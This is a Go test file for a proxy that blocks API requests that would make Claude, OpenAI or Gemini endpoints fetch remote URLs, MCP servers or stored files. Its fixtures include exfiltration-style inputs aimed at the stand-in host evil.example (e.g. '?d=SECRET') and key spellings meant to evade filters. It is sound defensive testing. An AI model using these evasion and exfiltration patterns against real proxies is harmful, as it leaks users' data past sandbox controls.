package proxy

import (
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"testing/iotest"
)

// checked is body as the API gets it after the check, read a byte at a
// time (so every state boundary falls between two reads), and why it was
// refused.
func checked(shape apiShape, body string) (string, error) {
	b := newCheckedBody(io.NopCloser(iotest.OneByteReader(strings.NewReader(body))), shape)
	out, err := io.ReadAll(b)
	if err == nil && b.refused() != nil {
		err = b.refused()
	}
	return string(out), err
}

// The Messages API: what has the API reach a URL is found however the
// JSON spells it, and what Claude Code sends passes.
func TestFetches(t *testing.T) {
	for body, refused := range map[string]bool{
		`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"text","text":"hi \"type\":\"url\" mcp_servers"}]}]}`: false,
		`{"tools":[{"name":"Bash","input_schema":{"type":"object","properties":{"command":{"type":"string"}}}}],"messages":[]}`:          false,
		`{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"AA=="}}]}]}`:                           false,
		`{"mcp_servers":[]}`:                                                                                                            true,
		`{"m\u0063p_servers":[{"url":"https://x"}]}`:                                                                                    true,
		`{"MCP_Servers":[{"url":"https://x"}]}`:                                                                                         true,
		`{"mcp_servers":[{"url":"https://x"}],"mcp_servers":[]}`:                                                                        true,
		`{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`:                                                                  true,
		`{"tools":[{"type":"Web_Fetch_20250910","name":"web_fetch"}]}`:                                                                  true,
		`{"messages":[{"content":[{"type":"document","source":{"type":"url","url":"https://x/?d=1"}}]}]}`:                               true,
		`{"messages":[{"content":[{"type":"image","source":{"url":"https://x","type":"\u0075rl"}}]}]}`:                                  true,
		`{"metadata":{"b":[1,{"c":null,"type":"url"}]}}`:                                                                                true,
		`{"metadata":{"user_id":"{\"device_id\":\"ce07\",\"type\":\"url\"}"}}`:                                                          false,
		`{"metadata":{"user_id":"u","User_Id":"v"}}`:                                                                                    false,
		`{"metadata":{"user_id":"u","workspace_id":"wrkspc_attacker"}}`:                                                                 true,
		`{"metadata":[{"user_id":"u"},{"project":"p"}]}`:                                                                                true,
		`{"messages":[{"content":[{"type":"document","source":{"type":"file","file_id":"file_011"}}]}]}`:                                true,
		`{"messages":[{"content":[{"type":"image","source":{"file_id":"file_011","type":"file"}}]}]}`:                                   true,
		`{"messages":[{"content":[{"type":"image","source":{"type":"Base64","file_id":"f"}}]}]}`:                                        true,
		`{"messages":[{"content":[{"type":"document","source":{"type":"s3"}}]}]}`:                                                       true,
		`{"messages":[{"content":[{"type":"document","source":{"type":null}}]}]}`:                                                       true,
		`{"messages":[{"content":[{"type":"container_upload","file_id":"file_011"}]}]}`:                                                 true,
		`{"messages":[{"content":[{"type":"document","source":{"type":"text","media_type":"text/plain","data":"x"}}]}]}`:                false,
		`{"messages":[{"content":[{"type":"document","source":{"type":"content","content":[{"type":"text","text":"x"}]}}]}]}`:           false,
		`{"messages":[{"content":[{"type":"search_result","source":"https://x","title":"t","content":[{"type":"text","text":"x"}]}]}]}`: false,
		`{"messages":[{"content":[{"type":"tool_use","input":{"fileId":"1abc","type":"file"}}]}]}`:                                      false,
		`{"messages":[{"content":[{"type":"tool_use","input":{"source":{"type":"git"}}}]}]}`:                                            false,
		`{"messages":[{"content":[{"type":"tool_result","content":[{"type":"image","source":{"type":"file","file_id":"f"}}]}]}]}`:       true,
		`{"system":[{"type":"text","text":"x"}],"messages":[{"content":"x \"source\":{\"type\":\"file\"}"}]}`:                           false,
		`{"messages":[{"content":[{"type":"tool_use","input":{"a":{"type":"url"}}}]}]}`:                                                 true,
		`{"tools":[{"type":"url_context_20261101","name":"fetch"}]}`:                                                                    true,
		`{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`:                                                                      true,
		`{"tools":[{"type":"web_search_2025030","name":"s"}]}`:                                                                          true,
		`{"tools":[{"type":"web_search_20250305","type":"x_20250305"}]}`:                                                                true,
		`{"tools":[{"type":null}]}`:                                                          true,
		`{"tools":[{"type":{"a":1}}]}`:                                                       true,
		`{"tools":{"type":"url"}}`:                                                           true,
		`{"tools":{"type":"mcp_toolset","mcp_server_name":"x"}}`:                             true,
		`{"safeguards":{"type":"other"}}`:                                                    true,
		`{"tools":{"type":"web_search_20250305","name":"s"}}`:                                false,
		`{"messages":[{"content":{"type":"image","source":{"type":"file","file_id":"f"}}}]}`: true,
		`{"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":8},{"type":"custom","name":"x"}]}`:                                                                   false,
		`{"tools":[{"type":"advisor_20260301","name":"advisor","model":"m"}]}`:                                                                                                       false,
		`{"tools":[{"type":"code_execution_20250825","name":"c"},{"type":"Bash_20250124","name":"bash"}]}`:                                                                           false,
		`{"messages":[{"content":[{"type":"tool_use","input":{"tools":[{"type":"anything"}]}}]}]}`:                                                                                   false,
		`{"messages":[{"content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"file","file_id":"f"}}]}}]}]}`:                           true,
		`{"messages":[{"content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"base64","data":"AA=="}}]}}]}]}`:                         false,
		`{"messages":[{"content":{"type":"document","source":{"type":"url"}}}]}`:                                                                                                     true,
		`{"messages":[{"role":"system","content":[{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"name":"mcp__s__t","input_schema":{"type":"object"}}}}]}]}`: false,
		`{"messages":[{"role":"system","content":[{"type":"tool_removal","tool":{"type":"tool_reference","name":"mcp__s__t"}}]}]}`:                                                   false,
		`{"messages":[{"role":"system","content":[{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"mcp_toolset"}}}]}]}`:                                true,
		`{"messages":[{"role":"system","content":[{"type":"tool_addition","tool":{"definition":{"type":"url_context_20261101"},"type":"tool_definition"}}]}]}`:                       true,
		`{"messages":[{"role":"system","content":[{"type":"tool_addition","Tool":[{"type":"tool_definition","Definition":{"type":"mcp_toolset"}}]}]}]}`:                              true,
		`{"messages":[{"role":"system","content":[{"type":"tool_addition","tool":{"type":"tool_import","url":"https://x"}}]}]}`:                                                      true,
		`{"messages":[{"role":"system","content":[{"type":"tool_addition","tool":{"type":null}}]}]}`:                                                                                 true,
		`{"messages":[{"content":[{"type":"compaction","Tool_Changes":[{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"mcp_toolset"}}}]}]}]}`:         true,
		`{"messages":[{"content":[{"type":"tool_use","input":{"tool":{"type":"anything"},"definition":{"type":"string"}}}]}]}`:                                                       false,
		`{"system":[{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"mcp_toolset"}}}]}`:                                                                true,
		`{"system":[{"type":"document","source":{"type":"file","file_id":"f"}}]}`:                                                                                                    true,
		`{"messages":[{"content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA==","url":"https://x"}}]}]}`:                                          true,
		`{"messages":[{"content":[{"type":"image","source":{"Media_Type":"image/png","type":"base64","data":"AA==","u\u0072l":"https://x"}}]}]}`:                                     true,
		`{"messages":[{"content":[{"type":"image","source":{"Media_Type":"image/png","type":"base64","data":"AA=="}}]}]}`:                                                            false,
		`{"system":{"type":"text","text":"x","cache_control":{"type":"ephemeral"}}}`:                                                                                                 false,
	} {
		if _, err := checked(messagesAPI, body); (err != nil) != refused {
			t.Errorf("%s: refused %v (%v), want %v", body, err != nil, err, refused)
		}
	}
}

// Only strict JSON passes, one object, whole: what a lenient parser
// would read otherwise is refused, and a body cut short never gets its
// closing brace.
func TestCheckedBodyStrict(t *testing.T) {
	for _, body := range []string{
		``, ` `, `[]`, `"x"`, `{"a":1}x`, `{"a":1}{}`, `{"a":1,}`, `{"a":[1,]}`, `{'a':1}`, `{a:1}`,
		`{"a":NaN}`, `{"a":1}//`, `{"a":tru}`, `{"a":"\x"}`, "{\"a\":\"\x01\"}", "\xef\xbb\xbf{}", "{\x00\"a\":1}",
		`{"a":1`, `{"a":"`, `{"a":[`, strings.Repeat("[", 600),
	} {
		out, err := checked(messagesAPI, body)
		if err == nil {
			t.Errorf("%q passed as %q", body, out)
		}
		if strings.HasSuffix(strings.TrimSpace(out), "}") && body != "" {
			t.Errorf("%q was refused (%v), yet what went on ends the object: %q", body, err, out)
		}
	}
	// Whitespace after the object goes on as as many spaces.
	for _, body := range []string{`{}`, " {\"metadata\" : [ 1 , -2.5e3 , true , false , null , \"\\u00e9\\ud83d\\ude00\" ] }\n\n", `{"metadata":{"user_id":{}},"system":[]}`} {
		if out, err := checked(messagesAPI, body); err != nil || out != strings.TrimRight(body, "\n")+strings.Repeat(" ", len(body)-len(strings.TrimRight(body, "\n"))) {
			t.Errorf("%q: got %q, %v; want it unchanged", body, out, err)
		}
	}
}

// Codex's Responses API: the tools it declares pass (its live web search
// made cached); a remote MCP server, a hosted tool, an image or a file by
// URL or id are refused, in tools or anywhere in the input.
func TestResponsesFetches(t *testing.T) {
	// What codex-cli 0.169.0 sends, cut down: its function tools, one
	// whose schema names image_url, a namespace of tools, web search.
	codex := `{"model":"gpt-test","stream":true,"input":[{"type":"message","role":"user","content":[{"type":"input_text","text":"say \"server_url\" pong"},{"type":"input_image","image_url":"data:image/png;base64,AA=="}]},` +
		`{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"DATA:image/png;base64,AA=="}]},{"type":"web_search_call","action":{"type":"open_page","url":"https://example.com/"}}],` +
		`"tools":[{"type":"function","name":"exec_command","parameters":{"type":"object","properties":{"cmd":{"type":"string"}}}},` +
		`{"type":"namespace","name":"multi_agent_v1","tools":[{"type":"function","name":"spawn_agent","parameters":{"type":"object","properties":{"image_url":{"type":"string"},"server_url":{"type":"string"}}}}]},` +
		`{"type":"custom","name":"apply_patch","format":{"type":"grammar","definition":"x"}},` +
		`{"type":"web_search","external_web_access":true}],"tool_choice":"auto","text":{"format":{"type":"json_schema","schema":{"properties":{"file_id":{"type":"string"}}}}}}`
	out, err := checked(responsesAPI, codex)
	if err != nil {
		t.Fatalf("codex's request was refused: %v", err)
	}
	if want := strings.Replace(codex, `"external_web_access":true`, `"external_web_access":false`, 1); out != want {
		t.Errorf("codex's request became\n%s\nwant\n%s", out, want)
	}
	if out, err := checked(responsesAPI, `{"tools":[{"type":"web_search"}]}`); err != nil || out != `{"tools":[{"type":"web_search","external_web_access":false}]}` {
		t.Errorf("a web search that does not say how it reaches the web: %q, %v", out, err)
	}
	if out, err := checked(responsesAPI, `{"tools":{"type":"web_search"}}`); err != nil || out != `{"tools":{"type":"web_search","external_web_access":false}}` {
		t.Errorf("a web search, one object where the list of tools belongs: %q, %v", out, err)
	}
	for _, body := range []string{
		`{"tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example/mcp","headers":{"Authorization":"Bearer t"}}]}`,
		`{"tools":[{"type":"MCP","server_url":"https://evil.example/mcp"}]}`,
		`{"tools":[{"type":"function","type":"mcp","server_url":"https://evil.example/mcp"}]}`,
		`{"tools":[{"type":"namespace","tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}]}]}`,
		`{"tools":[{"type":"code_interpreter","container":{"type":"auto","file_ids":["file-1"]}}]}`,
		`{"tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`,
		`{"tools":[{"type":"computer_use_preview"}]}`,
		`{"tools":[{"type":"web_search_preview"}]}`,
		`{"tools":[{"type":"image_generation"}]}`,
		`{"tools":[{"name":"x"}]}`,
		`{"tools":{"type":"mcp","server_url":"https://evil.example/mcp"}}`,
		`{"tools":{"name":"x"}}`,
		`{"tools":[{"type":["function"]}]}`,
		`{"tools":[{"type":"web_search","external_web_access":"true"}]}`,
		`{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?d=SECRET"}]}]}`,
		`{"input":[{"role":"user","content":[{"type":"input_image","image_url":{"url":"https://evil.example/"}}]}]}`,
		`{"input":[{"role":"user","content":[{"type":"input_image","i\u006dage_url":"https://evil.example/"}]}]}`,
		`{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/x.pdf"}]}]}`,
		`{"input":[{"role":"user","content":[{"type":"input_file","file_id":"file-abc"}]}]}`,
		`{"input":[{"type":"function_call_output","output":[{"type":"input_image","image_url":"http://evil.example/"}]}]}`,
		`{"input":[{"type":"mcp_call","server_url":"https://evil.example/"}]}`,
	} {
		if out, err := checked(responsesAPI, body); err == nil {
			t.Errorf("%s passed as %s", body, out)
		} else if !strings.Contains(err.Error(), "claudebox --network=host") && err != errNotJSON {
			t.Errorf("%s: the refusal does not say how to allow it: %v", body, err)
		}
	}
}

// Gemini's generateContent, direct and through Code Assist: function
// declarations and Google Search pass; urlContext, any other tool, and a
// file by URI anywhere in the contents are refused.
func TestGeminiFetches(t *testing.T) {
	for _, c := range []struct {
		bodies  []string
		refused bool
	}{
		{[]string{
			`{"contents":[{"role":"user","parts":[{"text":"hi fileData urlContext"}]}],"tools":[{"functionDeclarations":[{"name":"web_fetch","parametersJsonSchema":{"properties":{"fileUri":{"type":"string"}}}}]}],"generationConfig":{"responseJsonSchema":{"properties":{"fileData":{}}}}}`,
			`{"contents":[{"role":"user","parts":[{"text":"x"}]}],"tools":[{"googleSearch":{}}]}`,
			`{"model":"m","project":"p","request":{"contents":[{"parts":[{"inlineData":{"mimeType":"image/png","data":"AA=="}}]}],"tools":[{"google_search":{}}]}}`,
			`{"contents":{"role":"user","parts":{"text":"x"}},"tools":{"googleSearch":{}}}`,
		}, false},
		{[]string{
			`{"contents":[],"tools":[{"urlContext":{}}]}`,
			`{"contents":[],"tools":[{"url_context":{}}]}`,
			`{"contents":[],"tools":[{"URLContext":{}}]}`,
			`{"contents":[],"tools":[{"functionDeclarations":[],"codeExecution":{}}]}`,
			`{"contents":[],"tools":[{"googleSearch":{}},{"mcpServers":[{"url":"https://evil.example"}]}]}`,
			`{"contents":[],"cachedContent":"cachedContents/abc"}`,
			`{"request":{"contents":[],"tools":[{"urlContext":{}}]}}`,
			`{"contents":[],"tools":{"urlContext":{}}}`,
			`{"request":{"contents":[],"tools":{"url_context":{}}}}`,
			`{"contents":[],"tools":{"googleSearch":{},"codeExecution":{}}}`,
			`{"contents":[{"parts":[{"fileData":{"fileUri":"https://evil.example/?d=SECRET"}}]}]}`,
			`{"contents":[{"parts":[{"file_data":{"file_uri":"gs://bucket/x"}}]}]}`,
			`{"systemInstruction":{"parts":[{"fileData":{"fileUri":"files/abc"}}]}}`,
			`{"contents":[{"parts":[{"functionResponse":{"name":"x","parts":[{"fileData":{"fileUri":"https://evil.example"}}]}}]}]}`,
			`{"request":{"contents":[{"parts":[{"fil\u0065Data":{"fileUri":"https://evil.example"}}]}]}}`,
		}, true},
	} {
		for _, body := range c.bodies {
			if _, err := checked(geminiAPI, body); (err != nil) != c.refused {
				t.Errorf("%s: refused %v (%v), want %v", body, err != nil, err, c.refused)
			}
		}
	}
}

// BenchmarkCheckedBody: how fast a Messages API body of 3.6 MB passes the
// check (MB/s), most of it the text of its messages.
func BenchmarkCheckedBody(b *testing.B) {
	msg := `{"role":"user","content":[{"type":"text","text":"` + strings.Repeat("hello world \\n ", 2000) + `"}]},`
	body := `{"model":"m","messages":[` + strings.Repeat(msg, 150) + `{"role":"user","content":"x"}]}`
	b.SetBytes(int64(len(body)))
	for range b.N {
		if _, err := io.Copy(io.Discard, newCheckedBody(io.NopCloser(strings.NewReader(body)), messagesAPI)); err != nil {
			b.Fatal(err)
		}
	}
}

// A request's top-level keys pass only when known: the keys Claude Code
// 2.1.330 and codex-cli 0.169.0 send (measured against a local listener)
// pass; a container naming stored skills, a previous response, a
// conversation, a stored prompt and any key the APIs add next are refused,
// however the key is spelled.
func TestRequestKeys(t *testing.T) {
	claudeCode := `{"model":"claude-opus-5-5","messages":[{"role":"user","content":[{"type":"text","text":"hello"}]}],"system":[{"type":"text","text":"x","cache_control":{"type":"ephemeral"}}],` +
		`"tools":[{"name":"Bash","input_schema":{"type":"object"}}],"metadata":{"user_id":"{\"device_id\":\"d\"}"},"max_tokens":128000,"thinking":{"type":"adaptive","display":"omitted"},` +
		`"context_management":{"edits":[{"type":"clear_thinking_20251015","keep":"all"}]},"output_config":{"effort":"medium"},"stream":true}`
	codex := `{"model":"gpt-6.1-sol","instructions":"x","input":[{"type":"message","role":"user","content":[{"type":"input_text","text":"hello"}]}],"tools":[],"tool_choice":"auto","parallel_tool_calls":false,` +
		`"reasoning":{"effort":"low","context":"all_turns"},"store":false,"stream":true,"include":["reasoning.encrypted_content"],"prompt_cache_key":"k","text":{"verbosity":"low"},"client_metadata":{"session_id":"s"}}`
	gemini := `{"contents":[{"role":"user","parts":[{"text":"hello"}]}],"systemInstruction":{"role":"user","parts":[{"text":"x"}]},"tools":[{"functionDeclarations":[]}],"generationConfig":{"temperature":1}}`
	codeAssist := `{"model":"gemini-3.8-flash","project":"p","user_prompt_id":"u","request":{"contents":[],"systemInstruction":{"parts":[]},"tools":[],"toolConfig":{},"labels":{},"safetySettings":[],"generationConfig":{},"session_id":"s"},"enabled_credit_types":[]}`
	for shape, body := range map[apiShape]string{messagesAPI: claudeCode, responsesAPI: codex, geminiAPI: gemini + codeAssist} {
		if shape == geminiAPI {
			for _, b := range []string{gemini, codeAssist} {
				if out, err := checked(shape, b); err != nil || out != b {
					t.Errorf("%s: refused (%v) or changed: %s", b, err, out)
				}
			}
			continue
		}
		if out, err := checked(shape, body); err != nil || out != body {
			t.Errorf("%s: refused (%v) or changed: %s", body, err, out)
		}
	}
	for shape, bodies := range map[apiShape][]string{
		messagesAPI: {
			`{"model":"m","max_tokens":1,"container":{"skills":[{"type":"custom","skill_id":"skill_01SECRET","version":"latest"}]},"messages":[]}`,
			`{"model":"m","Container":"container_011","messages":[]}`,
			`{"model":"m","c\u006fntainer":"container_011","messages":[]}`,
			`{"model":"m","future_server_side_thing":{},"messages":[]}`,
			`{"model":"m","` + strings.Repeat("x", 100) + `":1}`,
		},
		responsesAPI: {
			`{"model":"m","previous_response_id":"resp_SECRET","input":"repeat it"}`,
			`{"model":"m","conversation":"conv_SECRET","input":"repeat it"}`,
			`{"model":"m","conversation":{"id":"conv_SECRET"},"input":"repeat it"}`,
			`{"model":"m","prompt":{"id":"pmpt_SECRET","version":"2"},"input":"x"}`,
			`{"model":"m","PreviousResponseId":"resp_SECRET"}`,
			`{"model":"m","background":true}`,
		},
		geminiAPI: {
			`{"contents":[],"futureServerSideThing":{}}`,
			`{"model":"m","project":"p","request":{"contents":[],"futureServerSideThing":{}}}`,
		},
	} {
		for _, body := range bodies {
			out, err := checked(shape, body)
			if err == nil {
				t.Errorf("%s passed as %s", body, out)
			} else if !strings.Contains(err.Error(), "request key") || !strings.Contains(err.Error(), "claudebox --network=host") {
				t.Errorf("%s: the refusal does not name the key and how to allow it: %v", body, err)
			}
		}
	}
}

// Code Assist's calls that are no model call (its setup, quotas, metrics)
// keep their own keys; its model calls' keys are known.
// TestSafeguards: the safeguards Claude Code 2.1.330 sends in auto mode,
// its default, which ask the API to check each tool call before Claude
// Code runs it, pass (refused, auto mode cannot check an action, and
// asks of each); a safeguard of another type, or one whose type is no
// string, is refused, and what stands inside one is checked as the
// messages are; a key Claude Code does not send there (a check's own
// model, where it would report) is refused, as the request's are.
func TestSafeguards(t *testing.T) {
	autoMode := `{"model":"claude-opus-5-5","messages":[{"role":"user","content":"run the tests"}],"max_tokens":128000,"stream":true,` +
		`"safeguards":[{"type":"dangerous_tool_use","classifier_context":{"v":1,"permission_mode":"auto","live_cwd":"/home/u/p","home_dir":"/home/u",` +
		`"rules":{"allow":[],"deny":[],"ask":[]},"user_identity":null,"git_state":{"root":null,"error":"not_a_repo"},"classifier_facts":{"bashPrescreenRetry":"true"}},"claude_md":"# Project\nRun make test."}]}`
	if out, err := checked(messagesAPI, autoMode); err != nil || out != autoMode {
		t.Errorf("auto mode's request: refused (%v) or changed: %s", err, out)
	}
	for _, safeguards := range []string{
		`[{"type":"future_server_side_check"}]`,
		`[{"Type":"dangerous_tool_use"},{"t\u0079pe":"other"}]`,
		`[{"type":{"name":"dangerous_tool_use"}}]`,
		`[{"type":["dangerous_tool_use"]}]`,
		`[{"type":1}]`,
		`[{"type":null}]`,
		`{"type":"other"}`,
		`[{"type":"dangerous_tool_use","classifier_context":{"mcp_servers":[{"url":"https://example.com"}]}}]`,
		`[{"type":"dangerous_tool_use","classifier_context":{"source":{"type":"url","url":"https://example.com"}}}]`,
		`[{"type":"dangerous_tool_use","webhook_url":"https://example.com/hook"}]`,
		`[{"type":"dangerous_tool_use","model":"claude-opus-5-5","classifier_context":{}}]`,
		`{"webhook":"https://example.com/hook"}`,
	} {
		body := `{"model":"m","messages":[],"safeguards":` + safeguards + `}`
		if _, err := checked(messagesAPI, body); err == nil {
			t.Errorf("passed: %s", body)
		}
	}
}

func TestGeminiModelCallKeys(t *testing.T) {
	for path, refused := range map[string]bool{
		"/v1internal:loadCodeAssist":                      false,
		"/v1internal:recordCodeAssistMetrics":             false,
		"/v1internal:streamGenerateContent":               true,
		"/v1beta/models/gemini-3.8-flash:generateContent": true,
		"/v1beta/models/gemini-3.8-flash:countTokens":     true,
	} {
		r, _ := http.NewRequest(http.MethodPost, "http://127.0.0.1:3128"+path, strings.NewReader(`{"cloudaicompanionProject":"p","metadata":{"pluginType":"GEMINI"}}`))
		r.Header.Set("Content-Type", "application/json")
		r, err := checkRequest(r, geminiAPI, nil)
		if err != nil {
			t.Fatal(err)
		}
		_, err = io.ReadAll(r.Body)
		if got := r.Body.(*checkedBody).refused() != nil; got != refused {
			t.Errorf("%s: refused %v (%v), want %v", path, got, err, refused)
		}
	}
}

// TestCheckBetasEverySpelling: a beta that turns on a fetch is refused
// under every spelling of the header's name a server reads as
// anthropic-beta (case, _ for -, the list split over two headers); the
// betas Claude Code sends pass.
func TestCheckBetasEverySpelling(t *testing.T) {
	for _, c := range []struct {
		header  http.Header
		refused bool
	}{
		{http.Header{"Anthropic-Beta": {"claude-code-20250219,oauth-2025-04-20"}}, false},
		{http.Header{"Anthropic-Beta": {"claude-code-20250219, Web-Fetch-2025-09-10"}}, true},
		{http.Header{"Anthropic_Beta": {"mcp-client-2025-04-04"}}, true},
		{http.Header{"Anthropic-Beta": {"oauth-2025-04-20"}, "ANTHROPIC_BETA": {"web-fetch-2025-09-10"}}, true},
		{http.Header{"X-Anthropic-Beta": {"web-fetch-2025-09-10"}}, false},
		{http.Header{"Anthropic-Beta": {"oauth-2025-04-20"}, "Anthropic_Beta": {"files-api-2025-04-14"}}, true},
	} {
		if got := checkBetas(c.header) != nil; got != c.refused {
			t.Errorf("%v: refused %v, want %v", c.header, got, c.refused)
		}
	}
}

// TestUnknownBetas: a beta passes only where its name, without its date,
// is one the check knows; the others are named together in the API's own
// words for a beta it does not know, each as written, so Claude Code
// drops each and sends the request again.
func TestUnknownBetas(t *testing.T) {
	for header, want := range map[string]string{
		"claude-code-20250219, Effort-2025-11-24,,context-1m-2025-08-07":    "",
		"context-management-2026-12-01":                                     "",
		"files-api-2025-04-14,effort-2025-11-24,Message-Threads-2026-08-12": "Unexpected value(s) `files-api-2025-04-14`, `Message-Threads-2026-08-12` for the `anthropic-beta` header",
		"claude-code":                "`claude-code`",
		"effort-2025-1124":           "`effort-2025-1124`",
		"effort-2025_11_24":          "`effort-2025_11_24`",
		"effort-20251124x":           "`effort-20251124x`",
		"-2025-11-24":                "`-2025-11-24`",
		"url-sources-2027-01-01":     "`url-sources-2027-01-01`",
		"resumption-2026-10-08":      "`resumption-2026-10-08`",
		"tool-provenance-2026-10-26": "`tool-provenance-2026-10-26`",
		"a`b-2025-11-24":             "`a?b-2025-11-24`",
	} {
		err := checkBetas(http.Header{"Anthropic-Beta": {header}})
		var unknown *unknownBetas
		switch {
		case want == "" && err != nil:
			t.Errorf("%s: refused: %v", header, err)
		case want != "" && (!errors.As(err, &unknown) || !strings.Contains(err.Error(), want)):
			t.Errorf("%s: %v, want the API's refusal naming %s", header, err, want)
		}
	}
}
